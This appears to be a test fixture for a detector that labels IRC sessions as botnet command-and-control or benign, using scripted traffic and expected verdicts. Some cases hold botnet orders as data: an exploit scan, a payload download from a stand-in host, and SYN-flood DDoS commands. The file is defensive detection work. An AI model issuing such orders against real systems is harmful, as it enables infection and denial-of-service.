# IRC and C&C, by hand; the bot is that of a published analysis, with names of our own.

# Everything of a C&C record: port 6767, password, channel, key; no orders yet.
tcp 1049 > 6767
> at=0 "PASS m4s3rvp4ssz\r\nNICK ESP|XP|48213\r\nUSER xkqz 0 * :xkqz\r\n"
< at=1 ":irc.example.net 001 ESP|XP|48213 :Welcome\r\n:irc.example.net 422 ESP|XP|48213 :MOTD File is missing\r\n"
> at=2 "JOIN #s3k4nt m4n0sp4z\r\n"
< at=3 ":ESP|XP|48213!xkqz@192.0.2.10 JOIN :#s3k4nt\r\n:irc.example.net 353 ESP|XP|48213 @ #s3k4nt :ESP|XP|48213 @boss USA|2K|11111\r\n:irc.example.net 366 ESP|XP|48213 #s3k4nt :End of /NAMES list.\r\n"
< at=100 "PING :irc.example.net\r\n"
> at=100 "PONG :irc.example.net\r\n"
=> irc verdict="cnc" dport=6767 password="m4s3rvp4ssz" channels="#s3k4nt m4n0sp4z" nick="ESP|XP|48213" nick_skeleton="ESP|XP|\\d{5}" user="xkqz" server_name="irc.example.net" state="idle" members=3 first_order_s=0 features~"channel key"

# Then an order in the topic, and one in a message.
tcp 1050 > 6667
> "NICK damn-0262937047\r\nUSER ghm 0 0 :damn\r\n"
< ":hub.example 001 damn-0262937047 :Hi\r\n"
> "JOIN #sl0w l03dx\r\n"
< at=5 ":hub.example 332 damn-0262937047 #sl0w :.advscan dcom135 200 5 0 -r | .download http://x.example/a.exe a.exe 1\r\n"
< at=9 ":boss!b@h PRIVMSG #sl0w :!ddos.syn 192.0.2.99 80 60\r\n"
=> irc verdict="cnc" state="active" first_order_s=1000000005 orders~"boss: !ddos.syn" orders~".download"

# The client's side alone, lower case, padded.
tcp 1051 > 8080
>   "  pass x\n nick  [00|DEU|12345]\n user a b c :d\n join #x y\n"
=> irc verdict="cnc" nick="[00|DEU|12345]" channels="#x y" password="x"

# The server's side alone.
tcp 1052 > 6667
< ":hub.example 001 bob :Hi\r\n:hub.example 251 bob :There are 5 users\r\n:hub.example 376 bob :End of /MOTD command.\r\n"
=> irc verdict="irc" nick="bob" server_name="hub.example"

# Midway, with the ports the wrong way round.
tcp 6667 > 1053 midway
> ":hub.example PRIVMSG #a :hi\r\n:hub.example 332 bob #a :hello\r\n:hub.example 353 bob = #a :bob eve\r\n"
< "PRIVMSG #a :so what do you think of it\r\nWHOIS eve\r\n"
=> irc verdict="irc" sport=1053 dport=6667

# People who talk, with a modern client.
tcp 1054 > 6667
> "CAP LS 302\r\nNICK alice\r\nUSER alice 0 * :Alice\r\n"
< ":irc.example 001 alice :Welcome\r\n:irc.example 005 alice NETWORK=ExampleNet :are supported\r\n"
> "JOIN #garden\r\nPRIVMSG #garden :good morning everybody\r\nPRIVMSG #garden :the tomatoes look fine\r\nPRIVMSG #garden :and the roses too\r\nWHOIS bob\r\n"
=> irc verdict="irc" network="ExampleNet" nick="alice"

# A bouncer: password, key and quick join, but capabilities and a network.
tcp 1055 > 6667
> "CAP LS\r\nPASS bob/libera:secret\r\nNICK bob\r\nUSER bob 0 * :Bob\r\n"
< ":znc.example 001 bob :Welcome\r\n:znc.example 005 bob NETWORK=ExampleNet :are supported\r\n"
> "JOIN #private key\r\n"
=> irc verdict="irc"

# A server that will not have it.
tcp 1056 > 6667
> "NICK a1234567\r\nUSER a b c :d\r\n"
< "ERROR :Closing Link: (K-lined)\r\n"
=> irc state="dead"

# FTP, POP3, SMTP with a log of IRC in its mail, HTTP about IRC: none.
tcp 1057 > 21
< "220 ready\r\n"
> "USER anonymous\r\nPASS x@example\r\nMODE S\r\nLIST\r\nQUIT\r\n"
=> nothing

tcp 1058 > 110
< "+OK ready\r\n"
> "USER bob\r\nPASS secret\r\nLIST\r\nQUIT\r\n"
=> nothing

tcp 1059 > 25
< "220 mail.example\r\n"
> "EHLO a\r\nMAIL FROM:<a@example>\r\nRCPT TO:<b@example>\r\nDATA\r\nNICK bot\r\nUSER a b c :d\r\nJOIN #x y\r\n.\r\nQUIT\r\n"
=> nothing

tcp 1060 > 80
> "GET /irc.html HTTP/1.1\r\nHost: example\r\n\r\n"
< "HTTP/1.1 200 OK\r\n\r\nNICK bot\r\nUSER a b c :d\r\nJOIN #x y\r\n:hub 001 bot :hi\r\n"
=> nothing

# One verb alone.
tcp 1061 > 6667
> "NICK bob\r\n"
=> nothing

# A long time of nothing but pings does not push out what comes after it.
tcp 1062 > 6667
> "PASS p\r\nNICK bot-77777\r\nUSER a b c :d\r\nJOIN #x y\r\n"
< ":h 001 bot-77777 :hi\r\n:h 332 bot-77777 #x :nothing yet\r\n:h 333 bot-77777 #x boss 1\r\n"
< "PING :irc.example.net\r\n"*900
< ":boss!b@h PRIVMSG #x :.ddos 192.0.2.1\r\n"
=> irc verdict="cnc" state="active" orders="boss: .ddos 192.0.2.1"
